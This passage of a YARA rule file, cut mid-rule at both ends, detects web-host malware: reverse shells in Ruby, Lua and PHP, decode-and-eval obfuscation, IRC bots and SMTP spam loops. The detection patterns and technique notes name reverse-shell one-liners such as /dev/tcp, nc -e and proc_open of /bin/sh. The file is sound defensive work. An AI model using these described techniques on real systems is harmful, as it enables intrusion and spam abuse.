        // Process.spawn("/bin/sh", in: s, out: s, err: s)
        $ro2 = /\b(in|:in)\s{0,2}(:|=>)\s{0,2}[a-zA-Z_@$]\w{0,30}\s{0,2},\s{0,2}(out|:out)\s{0,2}(:|=>)/
        $g = /\.\s{0,2}(gets|readline|recv|read)\b/
        $x1 = /\bIO\s{0,2}\.\s{0,2}popen\s{0,2}\(\s{0,2}[a-zA-Z_@$][\w.]{0,30}\s{0,2}[,)]/
        $x2 = /`#\{\s{0,2}[a-zA-Z_@$]/
        $x3 = /%x[({\[]#\{/
        $x4 = /\b(system|exec|spawn)\s{0,2}\(?\s{0,2}[a-zA-Z_@$][\w.]{0,30}\s{0,2}(\)|$|\n)/
        $x5 = /\bOpen3\s{0,2}\.\s{0,2}(popen[23]?e?|capture[23]?e?)\s{0,2}\(\s{0,2}[a-zA-Z_@$]/
        $w = /\.\s{0,2}(print|puts|write|send)\b/
    condition:
        filesize < 2MB and not hs_doc_file and $sk and (
            (($ro or $ro2) and $sh)
            or for any i in (1..#g) : ( for any of ($x*) : ( $ in (@g[i] .. @g[i] + 300) ) and
                   for any j in (1..#w) : ( @w[j] > @g[i] and @w[j] < @g[i] + 400 ) )
        )
}

/* Lua with LuaSocket: received lines handed to io.popen/os.execute. */
rule bot_revshell_lua : bot
{
    meta:
        description = "Lua connect-back/bind shell: LuaSocket lines run with io.popen/os.execute and the output sent back"
        severity = "critical"
        technique = "socket.tcp():connect(H,P); while: c = t:receive(); io.popen(c):read('*a'); t:send(...)"
        seen = "none"
    strings:
        $rq = /\brequire\s{0,2}\(?\s{0,2}["']socket["']/
        $cn = /[:.]\s{0,2}(connect|bind|accept)\s{0,2}\(/
        $rv = /:\s{0,2}receive\s{0,2}\(/
        $x = /\b(io\.popen|os\.execute)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,30}\s{0,2}[,)]/
        $sd = /:\s{0,2}send\s{0,2}\(/
    condition:
        filesize < 1MB and not hs_doc_file and $rq and $cn and $sd and
        for any i in (1..#rv) : ( $x in (@rv[i] .. @rv[i] + 300) )
}

/* Code that decodes a blob and evaluates it: the wrapper alone (the payload
 * is compressed or in another encoding). bot_encoded_backdoor_payload says
 * critical when the blob itself spells out a backdoor. */
rule bot_decode_eval_script : obfuscation bot
{
    meta:
        description = "Perl/Python code evaluating decoded or decompressed data (eval unpack/decode_base64, exec b64decode/zlib/marshal/chr-join)"
        severity = "high"
        technique = "eval unpack u => q{...}; eval pack 'H*', ...; exec(zlib.decompress(...)); exec(''.join(map(chr, [...]))); exec(bytes.fromhex(...))"
        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5"
    strings:
        $p1 = /\beval\s{0,4}\(?\s{0,4}(MIME::Base64::)?(decode_base64|unpack\s{0,4}\(?\s{0,4}["']?(u|H\*|m0?|B\*)["']?\s{0,4}(,|=>)|pack\s{0,4}\(?\s{0,4}["']?[HB]\*["']?\s{0,4}(,|=>)|uncompress\s{0,2}\(|Compress::Zlib::uncompress)/
        // (round 10, heldout5: also through compile(), exec(compile(b64decode(c), "<s>", "exec")))
        $p2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?(base64\.(b64decode|b32decode|b16decode|decodebytes|decodestring|a85decode)|zlib\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|binascii\.(unhexlify|a2b_base64)|lzma\.decompress|bz2\.decompress|gzip\.decompress|__import__\s{0,2}\(\s{0,2}['"](base64|zlib|marshal|codecs|binascii)['"])/
        $p3 = /\b(exec|eval)\s{0,2}\(\s{0,2}(str\s{0,2}\(\s{0,2})?(b?['"]['"]\s{0,2}\.\s{0,2}join\s{0,2}\(\s{0,2}(map\s{0,2}\(\s{0,2}chr\b|\[?\s{0,2}chr\s{0,2}\()|bytes\s{0,2}\(\s{0,2}\[)/
        // a reversed text run: Perl eval reverse, Python exec(s[::-1])
        $r1 = /\beval\s{0,4}\(?\s{0,4}(scalar\s{1,4})?reverse\b/
        $r2 = /\b(exec|eval)\s{0,2}\(\s{0,2}[\w.'"]{1,40}\s{0,2}\[\s{0,2}::\s{0,2}-1\s{0,2}\]/
        // in two steps: $c = reverse '...'; eval $c (after the literal, however long)
        $r3 = /=\s{0,4}(scalar\s{1,4})?reverse\s{0,4}\(?\s{0,4}(['"]|q[qw]?\s{0,2}[{(\/|!])/
        $ev = /\beval\s{0,4}\(?\s{0,4}\$\w{1,30}\s{0,4}\)?\s{0,4};/
        // Ruby: eval of Base64.decode64(...) or of '...'.unpack('m')
        $rb1 = /\beval\s{0,2}\(?\s{0,2}(::)?Base64\s{0,2}\.\s{0,2}(decode64|strict_decode64|urlsafe_decode64)\s{0,2}\(/
        $rb2 = /\beval\s{0,2}\(?\s{0,2}['"]/
        $rb3 = /['"]\s{0,2}\.\s{0,2}unpack1?\s{0,2}\(?\s{0,2}['"]m0?['"]/
        /* a Perl, Python, Ruby or shell comment that shows the technique
           (GNU parallel explains its remote wrapper: "# Write this without
           special chars: eval pack 'H*', join '',@ARGV"): not code */
        $cm = /#[^\n]{0,200}\b(eval|exec)\b/
    condition:
        filesize < 4MB and not hs_doc_file and (
            for any of ($p*, $r1, $r2, $rb1) : ( for any i in (1..#) : (
                not for any j in (1..#cm) : ( @[i] > @cm[j] and @[i] < @cm[j] + !cm[j] ) ) )
            or for any i in (1..#r3) : ( $ev in (@r3[i] .. @r3[i] + 200000) )
            or for any i in (1..#rb2) : ( $rb3 in (@rb2[i] .. @rb2[i] + 100000) )
        )
}

/* Node.js: base64 decoded with Buffer (Node only, not a browser) and run by
 * eval / Function / vm. Critical when the blob spells out a backdoor. */
rule bot_node_decode_eval : obfuscation bot
{
    meta:
        description = "Node.js code running base64-decoded text (eval / new Function / vm.runInThisContext of Buffer.from(..., 'base64'))"
        severity = "high"
        technique = "eval(Buffer.from('...', 'base64').toString()); new Function(Buffer.from(b64, 'base64') + '')(); vm.runInNewContext(atob(...))"
        seen = "none"
    strings:
        $e = /\b(eval|Function|runInThisContext|runInNewContext|runInContext)\s{0,2}\(\s{0,2}(new\s{1,2})?Buffer\s{0,2}(\.\s{0,2}from\s{0,2})?\(/
        $b = /['"]base64['"]\s{0,2}\)/
    condition:
        filesize < 4MB and for any i in (1..#e) : ( $b in (@e[i] .. @e[i] + 3000000) ) and
        not extension matches /^(md|markdown|rst|txt|html?|json|xml|po|pot|yml|yaml)$/
}

rule bot_php_back_connect : bot
{
    meta:
        description = "PHP back-connect shell: socket opened and a shell bound to it"
        severity = "critical"
        technique = "fsockopen/socket_create + proc_open/popen of /bin/sh"
        seen = "pre,train6"
    strings:
        $s1 = "fsockopen(" ascii
        $s2 = "socket_create(" ascii
        $s3 = "stream_socket_client(" ascii
        $p1 = "proc_open(" ascii
        $p2 = "popen(" ascii
        $p3 = "shell_exec(" ascii
        $sh1 = "/bin/sh -i" ascii
        $sh2 = "/bin/bash -i" ascii
        $sh3 = "uname -a; w; id;" ascii
        $sh5 = "/bin/sh\"" ascii
        $sh6 = "'/bin/sh'" ascii
        $sh7 = /\b(proc_open|popen)\s{0,4}\(\s{0,4}["'](\/usr)?\/bin\/(ba|z|k|da)?sh( -i)?["']/
        // train6: the shell's descriptors are the socket itself: proc_open('sh', [0 => $s, 1 => $s, 2 => $s], $p)
        $ds = /\bproc_open\s{0,4}\(\s{0,4}["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh( -i)?["']\s{0,4},\s{0,4}(array\s{0,4}\(|\[)\s{0,4}0\s{0,4}=>\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}1\s{0,4}=>\s{0,4}\$\w{1,30}/
        $fp = /(fputs|fwrite|socket_write)\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}(\$\w{1,20}\s{0,4}\.\s{0,4})?(system|shell_exec|exec|passthru)\s{0,4}\(/
    condition:
        /* the sockets are listed by name: ($s*) would also take $sh1..$sh6,
           and a proc_open of '/bin/sh' without any socket was "back-connect"
           ("cmd.exe", which only counted as such a socket, is gone: an HTTP
           client with a Windows fallback has a socket, popen and cmd.exe) */
        not hs_doc_file and (
            $fp and any of ($s1, $s2, $s3) or
            filesize < 500KB and any of ($s1, $s2, $s3) and any of ($p*) and any of ($sh1, $sh2, $sh3)
            or (filesize < 500KB and any of ($s1, $s2, $s3) and $p1 and any of ($sh5, $sh6))
            or (filesize < 500KB and any of ($s1, $s2, $s3) and $sh7)
            or (filesize < 500KB and any of ($s1, $s2, $s3) and $ds)
        )
}

/* A reverse-shell recipe in documentation or a web asset: worth a look in a
 * docroot (a cheat sheet, a generator page), never more than medium. */
rule bot_backdoor_recipe_in_doc : bot
{
    meta:
        description = "Documentation or web asset quoting a reverse-shell recipe (not a script)"
        severity = "medium"
        technique = "reverse-shell one-liners (/dev/tcp, nc -e, socat exec) in Markdown/HTML/JS/text"
        seen = "pre"
    strings:
        $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
        $a2 = /\b(ba|z|k|da)?sh -i\s{0,4}[12]?\s{0,2}[<>]\s{0,2}&\s{0,4}\/dev\/(tcp|udp)\//
        $a5 = /\b(ba|z|k|da)?sh -i\s{0,4}&>\s{0,2}\/dev\/(tcp|udp)\//
        $e1 = /\b(nc|ncat|netcat)\s([^\n|;&]{0,80}\s)?(-e|-c)\s{0,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
        $x = /\bsocat\s[^\n]{0,200}(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ nocase
        $p3 = /\b(ba|z|k|da)?sh -i\b[^\n|]{0,40}\|\s{0,4}(nc|ncat|netcat|telnet)\s/
    condition:
        filesize < 2MB and hs_doc_file and any of them
}

/* ---- IRC control loops -------------------------------------------------- */

private rule hs_irc_protocol
{
    strings:
        $pm = "PRIVMSG" ascii
        // after a word boundary or a written "\n" / "\r\n" escape
        $n = /(\\[nr]|\b)NICK\b/
        $u = /(\\[nr]|\b)USER\s[^\n]{0,80}:/
        $j = /(\\[nr]|\b)JOIN\s{1,4}[#&$%{'"+]/
        $png = "PONG" ascii
        $ping = "PING" ascii
    condition:
        $pm and $n and ($u or $j) and ($png or $ping)
}

private rule hs_raw_transport
{
    strings:
        $t1 = "IO::Socket" ascii
        $t2 = /\bsocket\s{0,4}\(/
        $t3 = "socket.socket" ascii
        $t4 = "fsockopen" ascii
        $t5 = "/dev/tcp/" ascii
        $t6 = "TCPSocket" ascii
        $t7 = "stream_socket_client" ascii
        $t8 = "socket_create" ascii
        $t9 = /\b(nc|ncat|telnet|openssl\s{1,4}s_client)\s{1,4}[-$\w]/
        $t10 = "create_connection" ascii
        // round 7: asyncio streams, Node's net/tls sockets
        $t11 = "asyncio.open_connection" ascii
        // (literals: a regex keyed on "net." is tried at every host name)
        $t12 = "net.connect(" ascii
        $t13 = "tls.connect(" ascii
        $t14 = "net.createConnection(" ascii
        $t15 = "new net.Socket(" ascii
    condition:
        any of them
}

rule bot_irc_script : bot
{
    meta:
        description = "IRC bot: speaks IRC over a raw socket (NICK/USER/JOIN, PING/PONG, PRIVMSG) and runs commands or attacks it is sent"
        severity = "critical"
        technique = "IRC control loop (C&C over IRC) with command dispatch to a shell, a flood or a download"
        seen = "pre,train6"
    strings:
        // a command built from what arrived (a variable), not a fixed one
        $x1 = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s{0,4}\(?\s{0,4}(["'][^"'\n]{0,40})?\$/
        $x2 = /\bqx\s{0,2}[\(\{\/|!][^\n]{0,40}\$\w/
        $x3 = "`$" ascii
        $x9 = /`\s{0,2}(cd|sh|bash|perl|nohup)\s[^`\n]{0,40}\$\w/
        $x4 = /\b(os\.(popen|system)|subprocess\.\w{1,16}|commands\.getoutput)\s{0,2}\(\s{0,2}[a-zA-Z_]/
        $x5 = /\beval\s{1,4}["']?\$/
        $x6 = /\bopen\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,20}\s{0,4},\s{0,4}["']\s{0,4}\$\w{1,30}\s{0,4}\|/
        $x7 = /\bexec\s{1,4}\$/
        $x8 = /\bshell\s{0,2}=\s{0,2}True\b/
        // round 7: asyncio's shell, Node's child_process on a variable
        $x10 = /\bcreate_subprocess_shell\s{0,2}\(\s{0,2}[a-zA-Z_]/
        // (train6: a match group too, cp.exec(m[1], ..))
        $x11 = /\b(execSync|spawnSync|exec|spawn)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}(\s{0,2}\[\s{0,2}\d{1,2}\s{0,2}\])?\s{0,2}[,)]/
        // round 8: Perl's three-argument pipe open of a variable, readpipe
        $x12 = /\bopen\s{0,2}\(\s{0,2}(my\s{1,4})?[$*]?\w{1,30}\s{0,2},\s{0,2}['"]-\|['"]\s{0,2},\s{0,2}\$\w{1,30}|\breadpipe\s{0,2}\(?\s{0,2}\$\w{1,30}/
        $a1 = /\b(udp|tcp|syn|http|icmp)\s{0,2}_?flood/ nocase
        $a2 = /\bport\s{0,2}_?scan/ nocase
        $a3 = "SOCK_DGRAM" ascii
        $a4 = /getprotobyname\s{0,2}\(\s{0,2}['"]udp/
        $a6 = "back connect" ascii nocase
        $a7 = "backconnect" ascii nocase
        // round 8: a line the user typed (a terminal client's /exec)
        $kb = /\binput\s{0,2}\(/
    condition:
        filesize < 2MB and not hs_doc_file and hs_irc_protocol and hs_raw_transport and
        // a script, not a compiled program (an IRC client's ELF binary holds the
        // protocol verbs and exec( in its string table, and has no extension)
        not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d) and
        (hs_lang_perl or hs_lang_python or hs_lang_shell or hs_shebang or extension matches /^(php[0-9]?|phtml|inc|txt|cgi)$/ or extension == "") and
        (any of ($x*) or any of ($a*)) and
        // round 8: a terminal IRC client whose only variable command is what the
        // user typed, a few lines after input(): not what the channel sends
        not (#kb > 0 and not any of ($x1, $x2, $x3, $x9, $x5, $x6, $x7, $x8, $x10, $x11, $x12, $a*) and
             for all i in (1..#x4) : ( for any j in (1..#kb) : ( @x4[i] > @kb[j] and @x4[i] - @kb[j] < 400 ) ))
}

/* A raw-socket IRC client that detaches and hides, or that crawls the web on
 * the channel's orders (the RFI/SQLi scanner bots): no reason for a hosting
 * account to run one. Without either (a build announcer) it is not flagged. */
rule bot_irc_raw_bot : bot
{
    meta:
        description = "IRC bot over a raw socket that detaches and hides itself or crawls the web for targets"
        severity = "high"
        technique = "IRC protocol client + fork/setsid/$0 rewrite/ignored SIGHUP, or + LWP/HTTP requests (scanner bot)"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        $h1 = /\bfork\s{0,2}(\(\s{0,2}\))?\s{0,4}(;|\)|\|\||and|or)/
        $h2 = /\bsetsid\b/
        $h3 = /\$0\s{0,4}=\s{0,4}["'$]/
        $h4 = /\$SIG\s{0,2}\{\s{0,2}['"]?(HUP|INT|TERM|CHLD|PS2)['"]?\s{0,2}\}\s{0,4}=\s{0,4}['"]IGNORE/
        $h5 = /\bnohup\b|\bos\.setsid\s{0,2}\(|\bdaemon(ize)?\s{0,2}\(/
        $c1 = /LWP::UserAgent|HTTP::Request|LWP::Simple|WWW::Mechanize|HTTP::Tiny/
        $c2 = /\burllib(2|\.request)?\.urlopen\s{0,2}\(|\brequests\.get\s{0,2}\(/
        $c3 = /["']GET\s{1,4}(\$|%s|["']\s{0,2}[.+]|\/)[^\n]{0,60}HTTP\/1\.[01]/
        // what makes the crawl a scan: targets from a search engine or a dork, or a
        // probe sent (a channel's URL-title bot fetches pages too, and sends none)
        $k1 = /(google|bing|yahoo|ask|aol|yandex|duckduckgo|baidu|altavista|alltheweb|lycos)\.[a-z.]{2,8}\//
        $k2 = "inurl:" ascii
        $k3 = "/etc/passwd" ascii
        $k4 = /=http:\/\/[^\s"'<>]{1,80}\?/
        $k5 = /union(\+|%20|\/\*\*\/|\s)(all(\+|%20|\/\*\*\/|\s))?select/ nocase
        $k6 = "%27" ascii
        $k7 = /[Dd]ork/
        $k8 = /\b(rfi|lfi|sqli|xss)\b/ nocase
    condition:
        filesize < 2MB and not hs_doc_file and hs_irc_protocol and hs_raw_transport and
        // a script, not a compiled program (an IRC client's ELF binary holds the
        // protocol verbs and exec( in its string table, and has no extension)
        not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d) and
        (hs_lang_perl or hs_lang_python or hs_lang_shell or hs_shebang or extension matches /^(php[0-9]?|phtml|inc|txt|cgi)$/ or extension == "") and
        (any of ($h*) or (any of ($c*) and any of ($k*)))
}

/* A bot on an IRC framework (python-irc, Net::IRC, POE::Component::IRC,
 * irssi/weechat-style handlers) whose message handler runs the channel's
 * text as a command. The framework hides the raw protocol that
 * bot_irc_script looks for. Plugins that run fixed commands (a list, a
 * configured path) do not match: the command must be a variable. */
rule bot_irc_framework_exec : bot
{
    meta:
        description = "IRC bot on a client framework whose public/private message handler runs the message text as a command"
        severity = "high"
        technique = "irc.bot.SingleServerIRCBot.on_pubmsg -> subprocess.getoutput(text); Net::IRC/POE on_public/irc_public -> system($msg) / `$cmd`"
        seen = "none"
    strings:
        $fw = /\bSingleServerIRCBot\b|\birc\.(bot|client)\b|\bNet::IRC\b|\bPOE::Component::IRC\b|\bAnyEvent::IRC\b|\bBot::BasicBot\b/
        $h = /\bdef\s{1,4}on_(pubmsg|privmsg)\s{0,2}\(|\bsub\s{1,4}(on_public|on_msg|irc_public|irc_msg|said)\b|\birc_(public|msg)\s{0,4}=>/
        $x = /\b(os\.(popen|system)|subprocess\.(getoutput|getstatusoutput|check_output|Popen|run|call))\s{0,2}\(\s{0,2}[a-zA-Z_][\w.\[\]:]{0,40}\s{0,2}[,)]|\b(system|exec)\s{0,4}\(?\s{0,4}\$\w{1,30}|`\$\w{1,30}|\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}/
        // round 8: readpipe($1), open(my $p, '-|', $cmd)
        $x2 = /\breadpipe\s{0,2}\(?\s{0,2}\$\w{1,30}|\bopen\s{0,2}\(\s{0,2}(my\s{1,4})?[$*]?\w{1,30}\s{0,2},\s{0,2}['"]-\|['"]\s{0,2},\s{0,2}\$\w{1,30}/
    condition:
        filesize < 2MB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and $fw and
        for any i in (1..#h) : ( $x in (@h[i] .. @h[i] + 600) or $x2 in (@h[i] .. @h[i] + 600) )
}

/* ---- SMTP spam loops ---------------------------------------------------- */

rule bot_smtp_spam_loop_script : bot mailer
{
    meta:
        description = "Script sending mail to every address of a list (SMTP library, raw SMTP or sendmail inside a loop over a list file or argv)"
        severity = "high"
        technique = "a whole message sent per list entry: sendmail(%m) / MIME::Lite / smtplib .sendmail / | sendmail, or MAIL FROM then RCPT TO, inside while(<LIST>) / for x in open(f) / while read"
        seen = "pre,heldout5"
    strings:
        // a whole message sent by one call
        $w1 = /\bsendmail\s{0,4}\(\s{0,4}%/
        $w2 = /->\s{0,2}send\s{0,2}\(\s{0,2}(['"]smtp['"]|\))/
        $w3 = /\bopen\s{0,4}\(\s{0,4}\*?\$?\w{1,30}\s{0,4},\s{0,4}["']\s{0,4}\|\s{0,4}[\w\/]{0,30}sendmail/
        $w4 = /\.(sendmail|send_message)\s{0,2}\(/
        $w5 = /\|\s{0,4}(\/usr\/s?bin\/|\/usr\/lib\/)?(sendmail|mailx|mutt|mail)\s/
        $w6 = /\b(mail|mailx|mutt)\s{1,4}-s\s/
        $w7 = /\bswaks\s[^\n]{0,80}--to\b/
        $w8 = /Net::SMTP(::SSL|::TLS)?\s{0,4}->\s{0,2}new\b/
        // three-argument pipe open (round 6): open(my $sm, '|-', '/usr/sbin/sendmail -t')
        $w9 = /\bopen\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}["']\|-["']\s{0,4},\s{0,4}["'][\w\/]{0,30}sendmail/
        // round 7: curl's SMTP client; Email::Stuffer's ->send; Email::Sender's sendmail($email)
        $w10 = "--mail-rcpt" ascii
        $w11 = "->send;" ascii
        $w12 = /\bsendmail\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4}[,)]/
        // round 10 (heldout5): mail(1)-likes with options before the subject
        // (mailx -r "$from" -a f.pdf -s "$s" -- "$to" < body)
        $w13 = /\b(mail|mailx|mutt|s-nail)\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,120}"|'[^'\n]{0,120}'|[^\s"']{1,60})\s{1,4}){1,6}-s\s/
        // or an SMTP transaction step by step: sender, then recipient
        $mf = /->\s{0,2}mail\s{0,2}\(|[(,\[=]\s{0,4}[bf]?["']MAIL FROM|\bprint\s{1,4}\{?\s{0,2}\$\w{1,30}\s{0,2}\}?\s{1,4}["']MAIL FROM|\b(send|sendall|write|syswrite|puts|print)\s{0,2}\(\s{0,2}(\$?[\w.]{1,30}\s{0,2},\s{0,2})?b?["']MAIL FROM|\b(echo|printf)\s{1,4}(-e\s{1,4})?["']MAIL FROM|\\r?\\nMAIL FROM/ nocase
        $rt = /->\s{0,2}(to|recipient)\s{0,2}\(|RCPT TO/
        // the recipient is a variable (the list entry), not a fixed address
        $rv1 = /->\s{0,2}(to|recipient)\s{0,2}\(\s{0,2}["']?\$/
        $rv2 = /\bTo\s{0,4}=>\s{0,4}["']?\$/
        $rv3 = /RCPT TO:?\s{0,2}<?\s{0,2}(\$|%s|\{\w|["']\s{0,2}[.+])/ nocase
        $rv4 = /\.(sendmail|send_message)\s{0,2}\(\s{0,2}[^,\n)]{1,80},\s{0,2}\[?\s{0,2}[a-zA-Z_]/
        $rv5 = /\[\s{0,2}['"]To['"]\s{0,2}\]\s{0,2}=\s{0,2}[a-zA-Z_]/
        $rv6 = /["']To:\s{0,2}(\$|%s|\{\w|["']\s{0,2}[.+])/
        $rv7 = /\b(sendmail|mailx|mutt|mail -s) [^\n|;]{0,120}["']?\$\{?\w{1,30}/
        $rv8 = /--to\s{1,4}["']?\$/
        $rv9 = /--mail-rcpt\s{1,4}["']?\$/
        // round 10 (heldout5): mail(1) with its options first and the recipient last,
        // a variable as the whole argument (mail -a "From: $F" -s "$S" "$to"); a
        // subject or header holding a variable is not the recipient
        $rv10 = /\b(mail|mailx|mutt|s-nail)\s{1,4}-[^\n|;]{0,200}\s(\$\{?\w{1,30}\}?|"\$\{?\w{1,30}\}?")\s{0,4}(\n|;|&|\||<|\)|\\\n)/
        // the SMTP machinery the send step belongs to
        $m1 = /Net::SMTP|Mail::Sendmail|MIME::Lite|Email::Sender|Mail::Mailer|Email::Send\b|Email::Stuffer/
        $m6 = "smtp://" ascii
        $m2 = /\bsmtplib\b/
        $m3 = /MAIL FROM/ nocase
        $m4 = /\bsendmail\b/
        $m5 = /\b(mailx|mutt|swaks|mail -s) /
        // (round 10) options before the subject: mail -a "Content-Type: text/html" -s ..
        $m7 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,120}"|'[^'\n]{0,120}'|[^\s"']{1,60})\s{1,4}){1,6}-s\s/
        // a loop over a list
        $loop = /\bfor(each)?\s{0,4}(my\s{1,4})?\$\w{1,30}\s{0,4}\(\s{0,4}[0-9]{1,3}\s{0,4}\.\.\s{0,4}(\$#\w{1,30}|scalar|@\w{1,30}|\$\w{1,30})|\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?<\s{0,2}\$?\w{1,30}\s{0,2}>|\bfor(each)?\s{0,4}(my\s{1,4})?(\$\w{1,30}\s{0,4})?\(\s{0,4}[@<]\s{0,2}\$?\w{1,30}\s{0,2}>?\s{0,4}\)|\bfor\s{1,4}\w{1,30}\s{1,4}in\s{1,4}[^\n;:]{1,120}(:|;\s{0,4}do\b|\n\s{0,8}do\b)|\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s/
        // a loop that itself reads the list (file, stdin, cat); round 7: also
        // "for name, mail in csv.reader(f)", keyed on csv.reader (a tuple after
        // "for" made the regex dearer everywhere)
        $lr = /\sin\s{1,4}csv\.(reader|DictReader)\s{0,2}\(|\bfor\s{1,4}\w{1,30}\s{1,4}in\s{1,4}(open\s{0,2}\(|\w{1,30}\.readlines\s{0,2}\(|csv\.reader\s{0,2}\(|sys\.stdin|fileinput\.input|\$\(\s{0,2}cat\s|`\s{0,2}cat\s|\$\(<)|\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?<\s{0,2}(\$\w{1,30}|[A-Z][A-Z0-9_]{0,29})\s{0,2}>|\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s/
        // the list comes from a file or the command line
        $f1 = /\bopen\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}(["']<["']\s{0,4},\s{0,4})?["']?[$\w\/.~]/
        $f3 = /\bopen\s{0,2}\([^)\n]{1,100}\)\s{0,2}\.\s{0,2}(readlines|read)\s{0,2}\(/
        $f4 = /\.(readlines|splitlines)\s{0,2}\(/
        $f5 = /\bsys\.argv\b|\$ARGV\s{0,2}\[|@ARGV|<STDIN>|\bsys\.stdin\b/
        $f6 = /\bdone\s{0,4}<\s{0,4}["']?\$?\{?\w/
        $f7 = /\bcat ["']?\$?\{?[\w.\/-]{1,60}/
        // round 7: open my $f, '<', $file (no parentheses)
        $f8 = /\bopen\s{1,4}(my\s{1,4})?\$\w{1,30}\s{0,4},\s{0,4}['"]<['"]/
        // what a mass mailing does besides
        $k1 = /Subject:|\[\s{0,2}['"]Subject['"]\s{0,2}\]\s{0,2}=/ nocase
        $k2 = /\bsleep\b/
        // round 8: Perl's four-argument select as a pause
        $k18 = /select\s{0,2}\(\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},/
        // (round 8: Perl's rand @froms, rand 99999 without parentheses)
        $k3 = /\brand\s{0,2}\(|\brand\s{1,4}[@$0-9]|\brandom\.(choice|randint|shuffle)|\$RANDOM\b/
        $k4 = /Net::DNS|\bmx\s{0,4}\(|dns\.resolver|['"]MX['"]|\bgetmxrr\b|\bdig\s{1,4}(\+short\s{1,4})?mx\b/ nocase
        // straight to port 25 (the recipients' MX), not the local relay
        $k5 = /\b(Peer)?Port\s{0,4}=>\s{0,4}['"]?25\b/
        $k10 = "\", 25)" ascii
        $k11 = "', 25)" ascii
        $k12 = /:25['"]/
        $k13 = /\/dev\/tcp\/[^\/\s]{1,80}\/25\b/
        $k15 = /\bSMTP\s{0,2}\(\s{0,2}[\w.'"\[\]]{1,60}\s{0,2},\s{0,2}25\b/
        $k6 = /threading\.Thread|\bfork\s{0,2}\(|Parallel::ForkManager|threads->create|\bmultiprocessing\b/
        $k7 = /Content-Type:\s{0,2}text\/html/ nocase
        $k8 = /X-Mailer/ nocase
        $k14 = /MIMEText\s{0,2}\([^\n]{0,300}['"]html['"]|subtype\s{0,2}=\s{0,2}['"]html['"]/
        // MIME::Lite / Mail::Sendmail hashes (round 6): the subject and an HTML body as named arguments
        $k16 = "Subject => $" ascii
        $k17 = /Type['"]?\s{0,2}=>\s{0,2}['"]text\/html/
        // Perl documentation (POD) and the text after __END__ are not run: usage
        // examples there ("for E in `cat list`; do swaks --to $E") do not count
        $pod = /\n=(head[1-4]|pod|begin|over|item|encoding|for)\b|\n__(END|DATA)__\s/
        $cut = /\n=cut\b/
        // a List-Unsubscribe header is what a legitimate bulk sender sets for
        // its subscribers' mail clients (RFC 2369/8058); spam tools do not
        // (no \b before it: in code it follows a written "\r\n", whose n is a word character)
        $lu = /List-Unsubscribe\b/ nocase
        // a function or class starts: a loop's body does not run past it
        // (not named $f*: those are the list-file strings of any of ($f*))
        // (literals: a regex on indentation + def is tried at every newline)
        $def1 = "\ndef " ascii
        $def2 = "\nclass " ascii
        $def3 = "\nsub " ascii
        $def4 = "    def " ascii
        $def5 = "\tdef " ascii
    condition:
        filesize < 1MB and (not hs_doc_file or hs_script_ext) and not $lu and
        (hs_lang_perl or hs_lang_python or hs_lang_shell or hs_shebang) and
        any of ($m*) and any of ($f*) and
        (
          ( for any i in (1..#loop) : (
            // the recipient is the list entry ...
            // (the innermost loop before it: a recipients loop after a body-reading
            // loop sends one message)
            for any of ($rv*) : ( for any r in (1..#) : ( @[r] > @loop[i] and @[r] <= @loop[i] + 1500 and
                not for any l in (1..#loop) : ( @loop[l] > @loop[i] and @loop[l] < @[r] ) and
                // ... of this loop's function (a test's loop, then the next test's RCPT TO)
                not for any d in (1..#def1) : ( @def1[d] > @loop[i] and @def1[d] < @[r] ) and
                not for any d in (1..#def2) : ( @def2[d] > @loop[i] and @def2[d] < @[r] ) and
                not for any d in (1..#def3) : ( @def3[d] > @loop[i] and @def3[d] < @[r] ) and
                not for any d in (1..#def4) : ( @def4[d] > @loop[i] and @def4[d] < @[r] ) and
                not for any d in (1..#def5) : ( @def5[d] > @loop[i] and @def5[d] < @[r] ) ) ) and
            // ... and a whole message goes out per entry
            ( for any of ($w*) : ( $ in (@loop[i] + 1 .. @loop[i] + 1500) ) or
              for any j in (1..#mf) : ( @mf[j] > @loop[i] and @mf[j] < @loop[i] + 1000 and
                  for any k in (1..#rt) : ( @rt[k] > @mf[j] and @rt[k] < @mf[j] + 600 and
                      // one sender, then a loop over the recipients: one message
                      not for any l in (1..#loop) : ( @loop[l] > @mf[j] and @loop[l] < @rt[k] ) ) ) ) and
            // ... in code, not in POD
            not ( #pod < 2000 and for any j in (1..#pod) : ( @pod[j] < @loop[i] and
                  not for any k in (1..#cut) : ( @cut[k] > @pod[j] and @cut[k] < @loop[i] ) ) )
        ) and 2 of ($k*) ) or
